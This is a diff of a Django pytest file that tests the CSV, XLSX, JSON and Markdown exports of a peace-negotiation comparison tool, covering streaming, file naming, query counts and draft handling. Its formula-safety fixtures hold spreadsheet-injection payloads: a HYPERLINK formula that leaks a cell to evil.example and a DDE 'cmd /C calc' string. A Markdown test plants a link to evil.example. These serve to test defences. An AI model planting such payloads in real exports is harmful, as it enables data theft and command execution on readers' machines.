@@ -1,22 +1,22 @@
-"""Exports: each format holds exactly the comparison on screen, safely, in a fixed number of queries."""
+"""Exports: every format, parsed back as a reader's tool would, holds every term the view selects
+with its regions, proposal version, statements and sources, streamed, safely, in a fixed number
+of queries."""
 
 import csv
 import datetime
 import io
 import json
 import re
-from html.parser import HTMLParser
+from collections import defaultdict
 
 import openpyxl
 import pytest
 from django.db import connection
-from django.http import QueryDict
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 from django.utils import timezone
 
-from negotiations.comparison import compute_comparison, parse_filters
-from negotiations.exports import comparison as exports
+from negotiations.exports.formats import FORMULA_TRIGGERS, LONG_COLUMNS, spreadsheet_safe
 from negotiations.models import (
     Attestation,
     Condition,
@@ -30,11 +30,12 @@ from negotiations.models import (
 from parties.models import Party
 
 FORMATS = ["csv", "xlsx", "json", "md"]
-DEFAULT = ""
+DEFAULT = "as_of=2025-11-28"
 FILTERED = "party=russia&party=ukraine&topic=territory&as_of=2025-11-28"
 # The day before Putin's remarks in Bishkek: nothing had been said yet.
 BEFORE_REMARKS = "as_of=2025-11-26"
 VIEWS = [DEFAULT, FILTERED, BEFORE_REMARKS]
+SEED_TITLE = "Putin Offers Ukraine Peace Deal: Withdraw Troops or Face Force"
 
 
 def fetch(client, fmt, qs=""):
@@ -42,79 +43,105 @@ def fetch(client, fmt, qs=""):
     return client.get(f"{url}?{qs}" if qs else url)
 
 
-def comparison_for(qs, user=None):
-    return compute_comparison(parse_filters(QueryDict(qs)), user=user, detail=True)
+def body(response):
+    assert response.streaming, "an export is streamed, whatever its size"
+    return b"".join(response.streaming_content)
 
 
-# -- what every format must say, cell by cell ------------------------------------------------------
-def expected_cells(comparison):
-    """(topic, party) -> what the export of that cell must hold, read from the Comparison."""
-    cells = {}
-    for row in comparison.rows:
-        for cell in row.cells:
-            strongest = cell.strongest
-            cells[(row.topic.slug, cell.party.slug)] = {
-                "status": row.status,
-                "kinds": cell.kinds,
-                "summaries": [term.summary for term in cell.terms],
-                "statement_count": cell.statement_count,
-                "source_count": cell.source_count,
-                "strongest": strongest.wording if strongest else "",
+# -- what every format must hold, read straight from the database ----------------------------
+def expected(qs):
+    """term summary -> what an export must say of it, for the published data of the view."""
+    params = dict(part.split("=") for part in qs.split("&") if part)
+    day = datetime.date.fromisoformat(params["as_of"])
+    parties = [value for key, value in (p.split("=") for p in qs.split("&")) if key == "party"]
+    terms = Condition.objects.published().as_of(day).select_related("topic", "party")
+    if parties:
+        terms = terms.filter(party__slug__in=parties)
+    if "topic" in params:
+        terms = terms.filter(topic__slug__in=["territory", *subtopics(params["topic"])])
+    found = {}
+    for term in terms:
+        statements = {}
+        for statement in term.statements.published().filter(said_on__lte=day):
+            reports = Attestation.objects.filter(statement=statement).select_related("source")
+            statements[statement.id] = {
+                "attributed_to": statement.attributed_to,
+                "said_on": statement.said_on,
+                "sources": sorted(f"{a.source.publisher}: {a.source.title}" for a in reports),
             }
-    return cells
+        found[term.summary] = {
+            "topic": term.topic.slug,
+            "party": term.party.slug,
+            "kind": term.get_kind_display(),
+            "regions": sorted(region.name for region in term.regions.all()),
+            "version": (
+                f"{term.proposal_version.proposal.title}, {term.proposal_version.label}"
+                if term.proposal_version
+                else ""
+            ),
+            "statements": statements,
+        }
+    return found
 
 
-def expected_order(comparison):
-    return [row.topic.slug for row in comparison.rows], [p.slug for p in comparison.parties]
+def subtopics(slug):
+    return list(Topic.objects.filter(parent__slug=slug).values_list("slug", flat=True))
 
 
-def ordered_unique(values):
-    return list(dict.fromkeys(values))
+def topic_order(qs):
+    """The topics of the view in the page's order (a parent before its sub-topics)."""
+    order = []
+
+    def walk(parent):
+        for topic in Topic.objects.filter(parent=parent):
+            order.append(topic.slug)
+            walk(topic)
+
+    walk(None)
+    if "topic=territory" in qs:
+        return [slug for slug in order if slug == "territory" or slug in subtopics("territory")]
+    return order
 
 
-# -- parsers, one per format -----------------------------------------------------------------------
-def read_csv(body):
-    text = body.decode("utf-8")
+# -- parsers ---------------------------------------------------------------------------------
+def read_csv(data):
+    text = data.decode("utf-8")
     assert text.startswith("\ufeff"), "Excel needs the BOM to read the file as UTF-8"
     return list(csv.DictReader(io.StringIO(text[1:])))
 
 
-def cells_from_records(records):
-    cells = {}
-    for record in records:
-        summaries = record["summaries"]
-        cells[(record["topic_slug"], record["party_slug"])] = {
-            "status": record["row_status"],
-            "kinds": record["kinds"].split("; ") if record["kinds"] else [],
-            "summaries": [] if summaries == "no stated term" else summaries.split(" | "),
-            "statement_count": int(record["statement_count"]),
-            "source_count": int(record["source_count"]),
-            "strongest": record["strongest_quote"] or "",
-        }
-    return cells
+def terms_from_long_rows(rows, date=lambda value: value):
+    """Group the long form back into terms: summary -> what the rows say of it."""
+    terms = {}
+    for row in rows:
+        term = terms.setdefault(
+            row["summary"],
+            {
+                "topic": row["topic_slug"],
+                "party": row["party_slug"],
+                "kind": row["kind"],
+                "regions": sorted(filter(None, (row["regions"] or "").split("; "))),
+                "version": row["proposal_version"] or "",
+                "statements": {},
+            },
+        )
+        if row["statement_id"] not in ("", None):
+            term["statements"][int(row["statement_id"])] = {
+                "attributed_to": row["attributed_to"],
+                "said_on": date(row["said_on"]),
+                "sources": sorted(row["sources"].split(" | ")) if row["sources"] else [],
+            }
+    return terms
 
 
-def read_xlsx(body):
-    workbook = openpyxl.load_workbook(io.BytesIO(body))
+def read_xlsx(data):
+    workbook = openpyxl.load_workbook(io.BytesIO(data))
     sheets = {}
     for sheet in workbook.worksheets:
         rows = list(sheet.iter_rows(values_only=True))
-        header, data = rows[0], rows[1:]
-        sheets[sheet.title] = [dict(zip(header, values, strict=True)) for values in data]
+        header, values = rows[0], rows[1:]
+        sheets[sheet.title] = [dict(zip(header, row, strict=True)) for row in values]
     return workbook, sheets
-
-
-def read_markdown(text):
-    """The title line, the table (header and rows as cell texts) and the footnotes."""
-    lines = text.splitlines()
-    table = [line for line in lines if line.startswith("|")]
-    header, rows = split_md_row(table[0]), [split_md_row(line) for line in table[2:]]
-    notes = {}
-    for line in lines:
-        found = re.match(r"\[\^(\d+)\]: (.*)$", line)
-        if found:
-            notes[found.group(1)] = unescape_md(found.group(2))
-    return lines[0], header, rows, notes
 
 
 def split_md_row(line):
@@ -133,237 +160,182 @@ def split_md_row(line):
 
 
 def unescape_md(text):
-    return re.sub(r"\\(.)", r"\1", text).replace("<br>", "\n")
+    text = re.sub(r"\\(.)", r"\1", text).replace("<br>", "\n")
+    return text.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
 
 
-KIND_LABELS = "|".join(re.escape(label) for label in ConditionKind.labels)
-MD_CELL = re.compile(
-    r"^(?P<terms>.*) \((?P<statements>\d+) statements?, (?P<sources>\d+) sources?\)"
-    r"(?: \[\^(?P<note>\d+)\])?$",
-    re.DOTALL,
-)
-
-
-def cells_from_markdown(text, comparison):
-    title, header, rows, notes = read_markdown(text)
-    slug_by_label = {party.label: party.slug for party in comparison.parties}
-    slug_by_name = {row.topic.name: row.topic.slug for row in comparison.rows}
-    parties = [slug_by_label[label] for label in header[1:-1]]
-    cells, topics = {}, []
-    for row in rows:
-        topic = slug_by_name[unescape_md(row[0]).replace("↳ ", "")]
-        topics.append(topic)
-        for party, raw in zip(parties, row[1:-1], strict=True):
-            cells[(topic, party)] = md_cell(unescape_md(raw), notes) | {"status": row[-1]}
-    return title, topics, parties, cells
-
-
-def md_cell(text, notes):
-    if text == "no stated term":
-        return {
-            "kinds": [],
-            "summaries": [],
-            "statement_count": 0,
-            "source_count": 0,
-            "strongest": "",
-        }
-    found = MD_CELL.match(text)
-    assert found, text
-    terms = re.split(rf"; (?=(?:{KIND_LABELS}): )", found.group("terms"))
-    note = notes[found.group("note")]
-    return {
-        "kinds": ordered_unique(term.split(": ", 1)[0] for term in terms),
-        "summaries": [term.split(": ", 1)[1] for term in terms],
-        "statement_count": int(found.group("statements")),
-        "source_count": int(found.group("sources")),
-        "strongest": note[note.index("“") + 1 : note.rindex("”")],
-    }
-
-
-class CellAttributes(HTMLParser):
-    """The data- attributes of every <td class="cell"> of the comparison page."""
-
-    def __init__(self):
-        super().__init__()
-        self.cells = []
-
-    def handle_starttag(self, tag, attrs):
-        attrs = dict(attrs)
-        if tag == "td" and "cell" in (attrs.get("class") or "").split():
-            self.cells.append(attrs)
-
-
-# -- each format, parsed back, is the comparison ---------------------------------------------------
+# -- each format, parsed back, holds every term of the view -----------------------------------
 @pytest.mark.parametrize("qs", VIEWS)
-def test_the_csv_export_holds_every_cell_of_the_comparison(client, seeded, qs):
-    comparison = comparison_for(qs)
+def test_the_csv_export_holds_every_term_with_its_statements_and_sources(client, seeded, qs):
     response = fetch(client, "csv", qs)
     assert response.status_code == 200
-    records = read_csv(response.content)
+    rows = read_csv(body(response))
+    if not expected(qs):
+        assert rows == []
+        return
+    assert list(rows[0]) == LONG_COLUMNS
+    parse_date = datetime.date.fromisoformat
+    assert terms_from_long_rows(rows, parse_date) == expected(qs)
+    assert [t for t in dict.fromkeys(r["topic_slug"] for r in rows)] == [
+        t for t in topic_order(qs) if t in {r["topic_slug"] for r in rows}
+    ]
 
-    assert list(records[0]) == exports.COLUMNS
-    topics, parties = expected_order(comparison)
-    assert ordered_unique(r["topic_slug"] for r in records) == topics
-    assert ordered_unique(r["party_slug"] for r in records) == parties
-    assert len(records) == len(topics) * len(parties)
-    assert {r["as_of"] for r in records} == {comparison.as_of.isoformat()}
-    assert cells_from_records(records) == expected_cells(comparison)
-    for record in records:
-        cell = comparison.cell(record["topic_slug"], record["party_slug"])
-        assert record["latest_date"] == (cell.latest.isoformat() if cell.latest else "")
-        strongest = cell.strongest
-        assert record["strongest_date"] == (strongest.said_on.isoformat() if strongest else "")
-        assert record["strongest_speaker"] == (strongest.attributed_to if strongest else "")
+
+def test_the_csv_names_the_regions_the_version_and_the_sources_address(client, seeded):
+    rows = read_csv(body(fetch(client, "csv", DEFAULT)))
+    recognition = next(r for r in rows if r["kind"] == "demand")
+    assert recognition["regions"] == "Crimea; Donetsk; Luhansk"
+    assert recognition["parent_topic"] == "Territory"
+    acceptance = next(r for r in rows if r["kind"] == "acceptance")
+    assert acceptance["proposal_version"] == "US peace plan, Revised draft"
+    assert all(SEED_TITLE in r["sources"] for r in rows if r["statement_id"])
+    Source.objects.update(url="https://example.org/report")
+    rows = read_csv(body(fetch(client, "csv", DEFAULT)))
+    assert {r["source_addresses"] for r in rows} == {"https://example.org/report"}
+
+
+def test_absence_is_an_empty_cell_never_words(client, seeded):
+    rows = read_csv(body(fetch(client, "csv", DEFAULT)))
+    threat = next(r for r in rows if r["kind"] == "threat")
+    assert (
+        threat["regions"] == "" and threat["proposal_version"] == "" and threat["valid_until"] == ""
+    )
+    text = body(fetch(client, "csv", DEFAULT)).decode()
+    assert "no stated term" not in text.lower()
 
 
 @pytest.mark.parametrize("qs", VIEWS)
-def test_the_xlsx_export_holds_every_cell_with_numbers_and_dates_as_such(client, seeded, qs):
-    comparison = comparison_for(qs)
+def test_the_xlsx_export_holds_a_side_by_side_sheet_the_long_sheet_and_about(client, seeded, qs):
     response = fetch(client, "xlsx", qs)
     assert response.status_code == 200
-    workbook, sheets = read_xlsx(response.content)
-
-    assert workbook.sheetnames == ["Comparison", "Statements", "About"]
-    records = sheets["Comparison"]
-    assert list(records[0]) == exports.COLUMNS
-    topics, parties = expected_order(comparison)
-    assert ordered_unique(r["topic_slug"] for r in records) == topics
-    assert ordered_unique(r["party_slug"] for r in records) == parties
-    assert {r["as_of"].date() for r in records} == {comparison.as_of}
-    for record in records:
-        assert type(record["statement_count"]) is int
-        assert type(record["source_count"]) is int
-        cell = comparison.cell(record["topic_slug"], record["party_slug"])
-        latest = record["latest_date"]
-        assert (latest.date() if latest else None) == cell.latest
-        for key in ("kinds", "row_status", "strongest_quote"):
-            record[key] = record[key] or ""
-    assert cells_from_records(records) == expected_cells(comparison)
-
-    statement_ids = [r["statement_id"] for r in sheets["Statements"]]
-    assert statement_ids == [s.id for _topic, _party, s in comparison.statements]
+    workbook, sheets = read_xlsx(body(response))
+    assert workbook.sheetnames == ["Side by side", "Terms and statements", "About"]
+    assert terms_from_long_rows(
+        sheets["Terms and statements"], lambda value: value.date() if value else None
+    ) == expected(qs)
+    wide = sheets["Side by side"]
+    assert [row["Topic"].replace("↳ ", "") for row in wide] == [
+        Topic.objects.get(slug=slug).name for slug in topic_order(qs)
+    ]
+    by_party = defaultdict(list)
+    for summary, term in expected(qs).items():
+        by_party[(term["topic"], term["party"])].append(summary)
+    names = {p.slug: p.name for p in Party.objects.all()}
+    slugs = {Topic.objects.get(slug=slug).name: slug for slug in topic_order(qs)}
+    for row in wide:
+        topic = slugs[row["Topic"].replace("↳ ", "")]
+        for slug, name in names.items():
+            if name in row:
+                for summary in by_party[(topic, slug)]:
+                    assert summary in (row[name] or "")
     about = {r["Item"]: r["Value"] for r in sheets["About"]}
-    assert about["As of"].date() == comparison.as_of
+    assert about["As of"].date().isoformat() == qs.split("as_of=")[1][:10]
+    assert "How to cite" in about and "Rule" in about
 
 
-def test_the_xlsx_export_freezes_and_styles_its_header(client, seeded):
-    workbook, _sheets = read_xlsx(fetch(client, "xlsx").content)
-    sheet = workbook["Comparison"]
+def test_the_side_by_side_sheet_wraps_filters_and_freezes_like_a_briefing_table(client, seeded):
+    workbook, _sheets = read_xlsx(body(fetch(client, "xlsx", DEFAULT)))
+    sheet = workbook["Side by side"]
     assert sheet.freeze_panes == "B2"
-    assert sheet["A1"].font.bold
-    assert sheet["A1"].fill.fill_type == "solid"
-    assert workbook["Statements"].freeze_panes == "B2"
+    assert sheet.auto_filter.ref == f"A1:F{sheet.max_row}"
+    assert sheet["B4"].alignment.wrap_text
+    assert sheet.column_dimensions["B"].width >= 40
+    assert sheet["A1"].font.bold and sheet["A1"].fill.fill_type == "solid"
+    assert workbook["Terms and statements"].auto_filter.ref
 
 
 @pytest.mark.parametrize("qs", VIEWS)
-def test_the_json_export_follows_its_schema_and_holds_the_comparison(client, seeded, qs):
-    comparison = comparison_for(qs)
+def test_the_json_export_follows_its_schema_and_holds_every_term(client, seeded, qs):
     response = fetch(client, "json", qs)
     assert response.status_code == 200
-    data = json.loads(response.content)
-
-    assert data["schema"] == "negotiation-comparison/1"
-    assert data["as_of"] == comparison.as_of.isoformat()
-    filters = comparison.filters
-    assert data["filters"] == {
-        "parties": list(filters.parties),
-        "topics": list(filters.topics),
-        "kinds": list(filters.kinds),
-        "version": None,
-        "as_of": filters.as_of.isoformat() if filters.as_of else None,
+    data = json.loads(body(response))
+    assert data["schema"] == "negotiation-comparison/2"
+    assert data["as_of"] == qs.split("as_of=")[1][:10]
+    assert [topic["slug"] for topic in data["topics"]] == topic_order(qs)
+    terms = {
+        term["summary"]: {
+            "topic": term["topic"],
+            "party": term["party"],
+            "kind": term["kind_label"],
+            "regions": sorted(term["regions"]),
+            "version": term["proposal_version"] or "",
+            "statements": {
+                s["id"]: {
+                    "attributed_to": s["attributed_to"],
+                    "said_on": datetime.date.fromisoformat(s["said_on"]),
+                    "sources": sorted(f"{x['publisher']}: {x['title']}" for x in s["sources"]),
+                }
+                for s in term["statements"]
+            },
+        }
+        for term in data["terms"]
     }
-    assert data["rule"] == comparison.rule
-    topics, parties = expected_order(comparison)
-    assert [p["slug"] for p in data["parties"]] == parties
-    assert [r["topic"]["slug"] for r in data["rows"]] == topics
-
-    statements = {s["id"]: s for s in data["statements"]}
-    assert list(statements) == [s.id for _topic, _party, s in comparison.statements]
-    cells = {}
-    for row in data["rows"]:
-        assert [c["party"] for c in row["cells"]] == parties
-        for cell in row["cells"]:
-            expected = comparison.cell(row["topic"]["slug"], cell["party"])
-            assert cell["latest"] == (expected.latest.isoformat() if expected.latest else None)
-            for term in cell["terms"]:
-                assert set(term["statement_ids"]) <= set(statements)
-            cells[(row["topic"]["slug"], cell["party"])] = {
-                "status": row["status"],
-                "kinds": ordered_unique(t["kind_label"] for t in cell["terms"]),
-                "summaries": [t["summary"] for t in cell["terms"]],
-                "statement_count": cell["statement_count"],
-                "source_count": cell["source_count"],
-                "strongest": statements[cell["strongest"]]["wording"] if cell["strongest"] else "",
-            }
-    assert cells == expected_cells(comparison)
+    assert terms == expected(qs)
+    if qs == DEFAULT:
+        assert {mark["kind"] for mark in data["marks"]} == {"collision", "overlap"}
 
 
 @pytest.mark.parametrize("qs", VIEWS)
-def test_the_markdown_export_is_the_page_table_with_the_strongest_quotes(client, seeded, qs):
-    comparison = comparison_for(qs)
-    response = fetch(client, "md", qs)
-    assert response.status_code == 200
-    title, topics, parties, cells = cells_from_markdown(response.content.decode(), comparison)
-
-    assert title.startswith(f"# Comparison as of {comparison.as_of.isoformat()} (filters: ")
-    for slug in comparison.filters.parties + comparison.filters.topics:
-        assert slug in title
-    assert (topics, parties) == expected_order(comparison)
-    assert cells == expected_cells(comparison)
-
-
-def test_before_putins_remarks_every_cell_is_empty_in_every_export(client, seeded):
-    records = read_csv(fetch(client, "csv", BEFORE_REMARKS).content)
-    assert records and {r["summaries"] for r in records} == {"no stated term"}
-    data = json.loads(fetch(client, "json", BEFORE_REMARKS).content)
-    assert data["statements"] == []
-    assert all(not cell["terms"] for row in data["rows"] for cell in row["cells"])
-    text = fetch(client, "md", BEFORE_REMARKS).content.decode()
-    assert "[^" not in text
+def test_the_markdown_export_is_the_side_by_side_table_with_a_quote_per_term(client, seeded, qs):
+    text = body(fetch(client, "md", qs)).decode()
+    table = [line for line in text.splitlines() if line.startswith("|")]
+    header, rows = split_md_row(table[0]), [split_md_row(line) for line in table[2:]]
+    assert len({len(split_md_row(line)) for line in table}) == 1
+    assert [unescape_md(row[0]).replace("↳ ", "") for row in rows] == [
+        Topic.objects.get(slug=slug).name for slug in topic_order(qs)
+    ]
+    cells = "\n".join(unescape_md(cell) for row in rows for cell in row[1:-1])
+    for summary, term in expected(qs).items():
+        assert f"{term['kind']}: {summary}" in cells
+    notes = [line for line in text.splitlines() if line.startswith("[^")]
+    assert len(notes) == len(expected(qs))
+    assert header[0] == "Topic" and header[-1] == "Collisions and overlaps"
 
 
-def test_the_markdown_table_survives_pipes_and_line_breaks_in_summaries(client, seeded):
+def test_the_markdown_table_survives_pipes_line_breaks_links_and_images(client, seeded):
     condition = Condition.objects.get(party__slug="russia", topic__slug="recognition")
-    condition.summary = "Recognition | of Donetsk\nand Crimea"
+    condition.summary = (
+        "Recognition | of [Donetsk](https://evil.example)\nand ![x](https://e.x/p.png)"
+    )
     condition.save()
-    comparison = comparison_for(DEFAULT)
-
-    text = fetch(client, "md").content.decode()
-    _title, _topics, _parties, cells = cells_from_markdown(text, comparison)
-    assert cells[("recognition", "russia")]["summaries"] == ["Recognition | of Donetsk\nand Crimea"]
+    text = body(fetch(client, "md", DEFAULT)).decode()
     table = [line for line in text.splitlines() if line.startswith("|")]
     assert len({len(split_md_row(line)) for line in table}) == 1
+    # No link or image survives: every bracket that would open one is escaped.
+    assert not re.search(r"(?<!\\)\]\(", text)
+    assert not re.search(r"(?<!\\)!(?<!\\)\[", text)
+    assert "\\[Donetsk\\](https://evil.example)" in text
 
 
-# -- the page and the exports agree ----------------------------------------------------------------
-@pytest.mark.parametrize("qs", VIEWS)
-def test_the_page_shows_the_same_cells_as_the_exports(client, seeded, qs):
-    url = reverse("negotiations:compare")
-    page = client.get(f"{url}?{qs}" if qs else url)
-    assert page.status_code == 200
-    parser = CellAttributes()
-    parser.feed(page.content.decode())
+def test_before_putins_remarks_every_export_is_empty_of_terms(client, seeded):
+    assert read_csv(body(fetch(client, "csv", BEFORE_REMARKS))) == []
+    data = json.loads(body(fetch(client, "json", BEFORE_REMARKS)))
+    assert data["terms"] == [] and data["marks"] == []
+    assert "[^" not in body(fetch(client, "md", BEFORE_REMARKS)).decode()
+
+
+# -- the page and the exports agree ----------------------------------------------------------
+def test_every_kind_the_page_shows_in_a_cell_is_in_the_export(client, seeded):
+    page = client.get(reverse("negotiations:compare"), {"as_of": "2025-11-28", "open": "territory"})
     shown = {
-        (td["data-topic"], td["data-party"]): (
-            td["data-kinds"],
-            int(td["data-statements"]),
-            int(td["data-sources"]),
+        (topic, party): set(kinds.split())
+        for topic, party, kinds in re.findall(
+            r'data-topic="([^"]+)" data-party="([^"]+)" data-label="[^"]*" data-kinds="([^"]*)"',
+            page.content.decode(),
         )
-        for td in parser.cells
     }
-    exported = {
-        (r["topic_slug"], r["party_slug"]): (
-            r["kinds"],
-            int(r["statement_count"]),
-            int(r["source_count"]),
-        )
-        for r in read_csv(fetch(client, "csv", qs).content)
-    }
-    assert len(parser.cells) == len(exported)
-    assert shown == exported
+    exported = defaultdict(set)
+    parents = {t.slug: t.parent.slug if t.parent else None for t in Topic.objects.all()}
+    for term in json.loads(body(fetch(client, "json", DEFAULT)))["terms"]:
+        exported[(term["topic"], term["party"])].add(term["kind"])
+        if parents[term["topic"]]:
+            exported[(parents[term["topic"]], term["party"])].add(term["kind"])
+    assert shown
+    for cell, kinds in shown.items():
+        assert kinds == exported.get(cell, set()), cell
 
 
-# -- the download itself ---------------------------------------------------------------------------
+# -- the download itself -----------------------------------------------------------------------
 CONTENT_TYPES = {
     "csv": "text/csv; charset=utf-8",
     "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
@@ -373,18 +345,28 @@ CONTENT_TYPES = {
 
 
 @pytest.mark.parametrize("fmt", FORMATS)
-def test_each_export_is_an_attachment_named_for_its_date(client, seeded, fmt):
+def test_each_export_is_an_attachment_named_for_the_view_it_holds(client, seeded, fmt):
     today = timezone.localdate().isoformat()
     cases = [
-        (DEFAULT, f"comparison-as-of-{today}.{fmt}"),
+        ("", f"comparison-as-of-{today}.{fmt}"),
         (BEFORE_REMARKS, f"comparison-as-of-2025-11-26.{fmt}"),
-        (FILTERED, f"comparison-as-of-2025-11-28-filtered.{fmt}"),
-        ("kind=demand", f"comparison-as-of-{today}-filtered.{fmt}"),
+        (FILTERED, f"comparison-russia-ukraine-territory-as-of-2025-11-28.{fmt}"),
+        ("kind=demand", f"comparison-demand-as-of-{today}.{fmt}"),
+        ("version=us-peace-plan:2", f"comparison-us-peace-plan-v2-as-of-{today}.{fmt}"),
     ]
     for qs, name in cases:
         response = fetch(client, fmt, qs)
         assert response["Content-Type"] == CONTENT_TYPES[fmt]
         assert response["Content-Disposition"] == f'attachment; filename="{name}"'
+        b"".join(response.streaming_content)
+
+
+def test_a_view_too_long_to_name_gets_a_short_hash_in_its_file_name(client, seeded):
+    kinds = "&".join(f"kind={kind}" for kind in ConditionKind.values)
+    first = fetch(client, "csv", kinds)["Content-Disposition"]
+    second = fetch(client, "csv", kinds + "&party=russia")["Content-Disposition"]
+    assert re.search(r"comparison-view-[0-9a-f]{10}-as-of-", first)
+    assert first != second
 
 
 @pytest.mark.parametrize("fmt", FORMATS)
@@ -404,7 +386,7 @@ def test_a_bad_filter_gets_a_plain_400_in_every_format(client, seeded, fmt, qs, 
     assert message in response.content.decode()
 
 
-# -- formula safety --------------------------------------------------------------------------------
+# -- formula safety ----------------------------------------------------------------------------
 PAYLOADS = {
     "front-line": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
     "cessation-of-hostilities": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -416,6 +398,9 @@ PAYLOADS = {
 def formulas(seeded):
     """Terms of the European allies whose summaries, and statements, read as formulas."""
     europe = Party.objects.get(slug="european-allies")
+    source = Source.objects.create(
+        publisher="Wire", title="Report", text="", status=PublishStatus.PUBLISHED
+    )
     for topic_slug, payload in PAYLOADS.items():
         statement = Statement.objects.create(
             party=europe,
@@ -424,6 +409,7 @@ def formulas(seeded):
             summary=payload,
             status=PublishStatus.PUBLISHED,
         )
+        Attestation.objects.create(statement=statement, source=source, wording=payload)
         condition = Condition.objects.create(
             party=europe,
             topic=Topic.objects.get(slug=topic_slug),
@@ -433,59 +419,45 @@ def formulas(seeded):
             status=PublishStatus.PUBLISHED,
         )
         condition.statements.add(statement)
-    # Alone in its cell, the payload is both the summary and the strongest statement there.
-    Condition.objects.filter(party=europe, topic__slug="us-draft", kind="rejection").delete()
     return PAYLOADS
 
 
 def test_formulas_in_a_csv_export_are_quoted_so_they_cannot_run(client, formulas):
-    records = cells_from_csv_by_cell(fetch(client, "csv").content)
-    for topic, payload in formulas.items():
-        record = records[(topic, "european-allies")]
-        assert record["summaries"] == "'" + payload
-        assert record["strongest_quote"] == "'" + payload
-
-
-def cells_from_csv_by_cell(body):
-    return {(r["topic_slug"], r["party_slug"]): r for r in read_csv(body)}
+    rows = read_csv(body(fetch(client, "csv", DEFAULT)))
+    for payload in formulas.values():
+        row = next(r for r in rows if r["summary"] == "'" + payload)
+        assert row["wording"] == "'" + payload
 
 
 def test_formulas_in_an_xlsx_export_are_quoted_text_not_formulas(client, formulas):
-    workbook, sheets = read_xlsx(fetch(client, "xlsx").content)
-    records = {(r["topic_slug"], r["party_slug"]): r for r in sheets["Comparison"]}
-    for topic, payload in formulas.items():
-        assert records[(topic, "european-allies")]["summaries"] == "'" + payload
-        assert records[(topic, "european-allies")]["strongest_quote"] == "'" + payload
-    wordings = {r["wording"] for r in sheets["Statements"]}
-    assert {"'" + payload for payload in formulas.values()} <= wordings
+    workbook, sheets = read_xlsx(body(fetch(client, "xlsx", DEFAULT)))
+    summaries = {r["summary"] for r in sheets["Terms and statements"]}
+    wordings = {r["wording"] for r in sheets["Terms and statements"]}
+    for payload in formulas.values():
+        assert "'" + payload in summaries and "'" + payload in wordings
     for sheet in workbook.worksheets:
         for row in sheet.iter_rows():
             assert all(cell.data_type != "f" for cell in row)
 
 
 def test_formulas_in_a_json_export_stay_as_they_were_written(client, formulas):
-    data = json.loads(fetch(client, "json").content)
-    summaries = {
-        (row["topic"]["slug"], cell["party"]): [term["summary"] for term in cell["terms"]]
-        for row in data["rows"]
-        for cell in row["cells"]
-    }
-    for topic, payload in formulas.items():
-        assert summaries[(topic, "european-allies")] == [payload]
-    assert {payload for payload in formulas.values()} <= {s["wording"] for s in data["statements"]}
+    data = json.loads(body(fetch(client, "json", DEFAULT)))
+    summaries = {term["summary"] for term in data["terms"]}
+    assert set(formulas.values()) <= summaries
 
 
 @pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
 def test_every_formula_trigger_is_quoted(text):
-    assert exports.spreadsheet_safe(text) == "'" + text
+    assert text.startswith(FORMULA_TRIGGERS)
+    assert spreadsheet_safe(text) == "'" + text
 
 
 @pytest.mark.parametrize("text", ["Crimea", "1,100 km", "'quoted", " =1 in the middle"])
 def test_ordinary_text_is_left_alone(text):
-    assert exports.spreadsheet_safe(text) == text
+    assert spreadsheet_safe(text) == text
 
 
-# -- queries and drafts ----------------------------------------------------------------------------
+# -- queries and drafts ------------------------------------------------------------------------
 def add_many_terms(count):
     """`count` more published terms across every cell, each on three statements, two sources."""
     parties, topics = list(Party.objects.all()), list(Topic.objects.all())
@@ -525,16 +497,17 @@ def add_many_terms(count):
 def count_queries(client, fmt, qs):
     with CaptureQueriesContext(connection) as queries:
         response = fetch(client, fmt, qs)
-    assert response.status_code == 200
+        assert response.status_code == 200
+        b"".join(response.streaming_content)
     return len(queries)
 
 
 @pytest.mark.parametrize("fmt", FORMATS)
 def test_an_export_takes_as_many_queries_for_many_terms_as_for_the_seed(client, seeded, fmt):
-    qs = "version=us-peace-plan:2"
+    qs = "version=us-peace-plan:2&as_of=2025-11-28"
     with_seed = count_queries(client, fmt, qs)
     add_many_terms(60)
-    assert "Extra term 59" in json.dumps(json.loads(fetch(client, "json", qs).content))
+    assert "Extra term 59" in body(fetch(client, "json", qs)).decode()
     assert count_queries(client, fmt, qs) == with_seed
 
 
@@ -559,16 +532,16 @@ def draft(seeded):
 
 
 def export_text(client, fmt):
-    body = fetch(client, fmt).content
+    data = body(fetch(client, fmt, DEFAULT))
     if fmt == "xlsx":
-        workbook, _sheets = read_xlsx(body)
+        workbook, _sheets = read_xlsx(data)
         return "\n".join(
             str(value)
             for sheet in workbook.worksheets
             for row in sheet.iter_rows(values_only=True)
             for value in row
         )
-    return body.decode("utf-8")
+    return data.decode("utf-8")
 
 
 @pytest.mark.parametrize("fmt", FORMATS)
@@ -581,3 +554,13 @@ def test_a_draft_term_is_in_no_export_for_an_anonymous_reader(client, draft, fmt
 @pytest.mark.parametrize("fmt", FORMATS)
 def test_an_editor_exports_the_drafts_they_preview(editor_client, draft, fmt):
     assert draft.summary in export_text(editor_client, fmt)
+
+
+def test_an_editors_export_says_which_rows_are_drafts(editor_client, draft):
+    from django.test import Client
+
+    rows = read_csv(body(fetch(editor_client, "csv", DEFAULT)))
+    row = next(r for r in rows if r["summary"] == draft.summary)
+    assert row["status"] == "draft"
+    assert {r["status"] for r in rows if r["summary"] != draft.summary} == {"published"}
+    assert "status" not in read_csv(body(fetch(Client(), "csv", DEFAULT)))[0]
